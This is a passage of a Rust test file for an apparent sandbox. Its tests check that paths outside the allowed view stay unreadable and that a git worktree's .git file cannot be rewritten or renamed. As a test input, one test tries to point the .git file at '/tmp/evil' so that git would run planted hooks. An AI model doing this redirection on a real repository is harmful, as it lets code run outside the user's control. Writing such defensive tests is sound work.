        out.stdout
    );
    let other = exec(
        &ws,
        &["--profile", &p],
        &[&ws.probe(), "read", dir.join("other").to_str().unwrap()],
    );
    assert!(!other.ok(), "{}", other.stdout);
    // Control: a symlink into the view (/lib64 -> usr/lib64 on merged-/usr systems) stays a
    // symlink and resolves inside.
    let ls = exec(&ws, &["--profile", &p], &[&ws.probe(), "ls", "/lib64/"]);
    assert!(ls.ok(), "{}", ls.stdout);
}

#[test]
fn a_git_worktrees_dot_git_file_stays_read_only() {
    let Some(ws) = Ws::new() else { return };
    // In a `git worktree`, .git is a file naming the real git directory: rewriting it would
    // point git at hooks the run planted.
    let gitfile = ws.path().join(".git");
    std::fs::write(&gitfile, "gitdir: /srv/repo/.git/worktrees/ws\n").unwrap();
    let out = inside(
        &ws,
        &["write", gitfile.to_str().unwrap(), "gitdir: /tmp/evil\n"],
    );
    assert!(!out.ok(), "{}", out.stdout);
    let mv = inside(
        &ws,
        &[
            "rename",
            gitfile.to_str().unwrap(),
            ws.path().join("moved").to_str().unwrap(),
        ],
    );
    assert!(!mv.ok(), "{}", mv.stdout);
    assert_eq!(
        std::fs::read_to_string(&gitfile).unwrap(),
        "gitdir: /srv/repo/.git/worktrees/ws\n"
    );
    // Control: the run goes ahead and the rest of the workspace is writable.
    let other = ws.path().join("notes");
    assert!(inside(&ws, &["write", other.to_str().unwrap(), "x"]).ok());
}
